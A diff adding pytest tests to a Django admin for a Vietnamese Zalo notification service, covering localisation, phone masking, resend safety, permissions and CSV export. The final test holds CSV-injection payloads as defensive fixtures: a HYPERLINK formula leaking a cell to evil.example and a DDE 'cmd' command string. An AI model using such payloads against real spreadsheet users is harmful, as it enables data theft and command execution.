@@ -126,6 +126,57 @@ def test_dates_are_in_vietnamese_format_when_the_language_is_vi(client, staff):
     assert "11/21/2026 2:05 p.m." in english
 
 
+def test_error_categories_are_named_in_the_operators_language(client, staff):
+    # An operator reads "Người nhận", not the stored code "recipient", in the column and
+    # in the filter; the code stays in the filter's URL.
+    staff("view_message")
+    MessageFactory(status="failed", error_code=-118, error_category="recipient")
+    MessageFactory(status="cancelled", error_category="operator")
+    html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
+    assert '<span class="zns-category" title="recipient">Người nhận</span>' in html
+    assert '<span class="zns-category" title="operator">Nhân viên đã hủy</span>' in html
+    assert "?error_category__exact=recipient" in html
+    assert 'title="Lỗi tạm thời"' in html or ">Lỗi tạm thời<" in html  # the filter's "retry"
+    assert ">recipient<" not in html and ">operator<" not in html
+    with translation.override("en"):
+        english = client.get(LIST, HTTP_ACCEPT_LANGUAGE="en").content.decode()
+    assert '<span class="zns-category" title="recipient">Recipient</span>' in english
+
+
+def test_the_event_filter_names_events_in_the_operators_language(client, staff):
+    staff("view_message")
+    html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
+    assert "order_created — Đơn hàng mới" in html and "order_paid — Đã thanh toán" in html
+    assert "Order created" not in html
+    with translation.override("en"):
+        english = client.get(LIST, HTTP_ACCEPT_LANGUAGE="en").content.decode()
+    assert "order_created — Order created" in english
+
+
+@pytest.mark.parametrize("lookup", [
+    {"phone": "84912345678"}, {"phone__startswith": "8491234"}, {"phone__contains": "345"},
+    {"params__contact": "0912345678"}, {"params__icontains": "0912"},
+])
+def test_staff_without_view_full_phone_cannot_filter_by_phone_in_the_url(client, staff, lookup):
+    # The admin lets any local field be filtered from the URL: phone__startswith, one digit
+    # at a time, would spell out every masked number (the list shows the last three).
+    staff("view_message")
+    MessageFactory(phone="84912345678", params={"contact": "0912345678"})
+    MessageFactory(phone="84987654321", params={"contact": "0987654321"})
+    for url in (LIST, EXPORT):
+        response = client.get(url, lookup)
+        assert response.status_code == 400, (url, lookup)
+        assert not getattr(response, "streaming", False)
+
+
+def test_staff_with_view_full_phone_may_filter_by_phone_in_the_url(client, staff):
+    staff("view_message", "view_full_phone")
+    MessageFactory(phone="84912345678", order_ref="MINE")
+    MessageFactory(phone="84987654321", order_ref="OTHER")
+    html = client.get(LIST, {"phone__startswith": "8491234"}).content.decode()
+    assert "MINE" in html and "OTHER" not in html
+
+
 # -- the detail page --------------------------------------------------------------------------
 
 def test_the_timeline_is_whole_in_order_and_masks_the_phone(client, staff):
@@ -159,6 +210,27 @@ def test_the_timeline_is_whole_in_order_and_masks_the_phone(client, staff):
     assert "********678" in html and "*******678" in html
 
 
+def test_a_hashed_send_hides_the_phones_hash_from_staff_without_view_full_phone(
+        client, staff, settings):
+    # ZNS_NOTIFY HASH_PHONE sends SHA-256(phone) instead of the number: Vietnamese mobile
+    # numbers are few enough (~10^9) to recover one from its hash in seconds, so the hash
+    # is the number to whoever may not see it.
+    from zns_notify.zalo.client import ZaloClient, hash_phone
+
+    staff("view_message")
+    message = MessageFactory(status="sent")
+    path, body = ZaloClient.send_template_request(
+        phone=message.phone, template_id=message.zalo_template_id, data=message.params,
+        tracking_id=message.idempotency_key, hashed=True)
+    MessageEvent.objects.create(message=message, kind="attempt", status="sent", payload={
+        "request": {"path": path, "body": body},
+        "answer": {"error": -108, "message": f"no user for {hash_phone(message.phone)}"}})
+    digest = hash_phone(message.phone)
+    html = client.get(change(message.pk)).content.decode()
+    assert "hash_phone" in html and digest not in html
+    assert digest[:12] not in html  # not even a recognisable part of it
+
+
 def test_staff_with_view_full_phone_see_the_number_in_the_payload(client, staff):
     staff("view_message", "view_full_phone")
     message = MessageFactory()
@@ -175,6 +247,34 @@ def test_the_detail_page_renders_in_a_bounded_number_of_queries(
         attempt(message)
     with django_assert_max_num_queries(14):
         assert client.get(change(message.pk)).status_code == 200
+
+
+def test_webhooks_and_ratings_add_no_query_per_entry(client, staff):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    from zns_notify.models import MessageFeedback
+
+    staff("view_message")
+    message = MessageFactory(msg_id="m1", status="delivered")
+    attempt(message)
+
+    def page_queries() -> int:
+        with CaptureQueriesContext(connection) as seen:
+            assert client.get(change(message.pk)).status_code == 200
+        return len(seen)
+
+    page_queries()  # the first view fills per-process caches (content types)
+    few = page_queries()
+    for n in range(40):
+        WebhookEvent.objects.create(
+            event_name="user_received_message" if n % 2 else "user_feedback", dedup_key=f"d{n}",
+            subject="m1" if n % 3 else message.idempotency_key, outcome="applied",
+            received_at=timezone.now(), body='{"recipient": {"id": "84912345678"}}')
+        MessageFeedback.objects.create(message=message, msg_id="m1", rate=5, note="tốt",
+                                       received_at=timezone.now())
+        attempt(message)
+    assert page_queries() == few
 
 
 # -- resend -------------------------------------------------------------------------------------
@@ -214,6 +314,48 @@ def test_resend_queues_the_copy_for_the_worker(client, staff, django_capture_on_
         follow(client, reverse("admin:zns_notify_message_resend", args=[original.pk]))
     copy = Message.objects.get(resent_from=original)
     assert any(copy.idempotency_key in str(task.task["args"]) for task in OrmQ.objects.all())
+
+
+def test_a_double_click_on_resend_queues_one_copy(client, staff):
+    # Two clicks (or two operators) on the same failed message: the customer gets one copy.
+    # Another resend is taken only once the copy's own outcome is final.
+    staff("view_message", "resend_message")
+    original = MessageFactory(status="failed")
+    url = reverse("admin:zns_notify_message_resend", args=[original.pk])
+    follow(client, url)
+    response = follow(client, url)
+    copy = Message.objects.get(resent_from=original)
+    assert (f"Message #{original.pk} was already resent as message #{copy.pk}, which is "
+            f"still Queued: wait for its outcome before resending it again.") in shown(response)
+    assert LogEntry.objects.count() == 2  # the first resend's two entries, nothing more
+    Message.objects.filter(pk=copy.pk).update(status="failed")
+    follow(client, url)
+    assert Message.objects.filter(resent_from=original).count() == 2
+
+
+def test_a_resend_of_a_resend_links_to_the_copy_it_repeats():
+    user = User.objects.create_user("op", is_staff=True)
+    original = MessageFactory(status="failed")
+    first = log_actions.resend(original, user)
+    with pytest.raises(log_actions.Refused):  # the copy itself is still under way
+        log_actions.resend(first, user)
+    Message.objects.filter(pk=first.pk).update(status="undelivered")
+    first.refresh_from_db()
+    second = log_actions.resend(first, user)
+    assert (second.resent_from_id, second.phone, second.params) == (
+        first.pk, original.phone, original.params)
+    assert len({original.idempotency_key, first.idempotency_key, second.idempotency_key}) == 3
+
+
+def test_resend_reads_the_originals_status_again_before_copying():
+    # The admin's action list was read a moment ago; a worker may have claimed the message
+    # since (an ambiguous send re-queued, the sweeper): it is no longer final.
+    user = User.objects.create_user("op", is_staff=True)
+    original = MessageFactory(status="failed")
+    Message.objects.filter(pk=original.pk).update(status="queued")
+    with pytest.raises(log_actions.Refused, match="only a message whose outcome is final"):
+        log_actions.resend(original, user)
+    assert Message.objects.count() == 1
 
 
 @pytest.mark.parametrize("status", ["queued", "sending", "sent"])
@@ -340,6 +482,23 @@ def test_cancel_needs_its_permission(client, staff):
                            follow=True)
     assert any("zns_notify.cancel_message" in m for m in shown(response))
     assert Message.objects.get().status == "queued"
+
+
+def test_resend_and_cancel_need_the_view_permission_too_as_in_the_api(client, staff):
+    # docs/permissions.md: a user cannot do through the admin what the API refuses; the API
+    # asks for view_message besides resend_message / cancel_message.
+    staff("resend_message", "cancel_message")
+    final = MessageFactory(status="failed")
+    waiting = MessageFactory(status="queued")
+    for name, message in (("resend", final), ("cancel", waiting)):
+        response = follow(client, reverse(f"admin:zns_notify_message_{name}", args=[message.pk]))
+        assert response.redirect_chain[-1][0] == reverse("admin:index"), name
+        assert any("permission" in m for m in shown(response)), name
+        # Nor does the answer tell whether a message with that id exists.
+        missing = client.post(reverse(f"admin:zns_notify_message_{name}", args=[999999]))
+        assert missing.status_code == 302 and missing.url == reverse("admin:index"), name
+    assert Message.objects.count() == 2 and Message.objects.get(pk=waiting.pk).status == "queued"
+    assert not LogEntry.objects.exists()
 
 
 def test_the_cancel_action_cancels_the_waiting_ones_only(client, staff):
@@ -483,3 +642,18 @@ def test_the_groups_command_creates_the_suggested_groups():
     assert {"view_full_phone", "change_binding", "add_binding", "delete_binding",
             "connect_zaloaccount"} <= managers
     assert operators <= managers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, staff, start):
+    # An order reference comes from the shop's customers, an error from Zalo: a cell starting
+    # with one of these is a formula to Excel/LibreOffice (CSV injection) unless quoted.
+    staff("view_message")
+    evil = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+    MessageFactory(order_ref=evil, status="failed", error_code=-124,
+                   error_category="recipient", error_message=f"{start}cmd|' /C calc'!A0")
+    header, row = read_csv(client.get(EXPORT))
+    assert row[header.index("order_ref")] == "'" + evil
+    assert row[header.index("reason")] == f"'{start}cmd|' /C calc'!A0"
+    # Numbers stay numbers: a Zalo error code is negative and must not be quoted.
+    assert row[header.index("error_code")] == "-124"
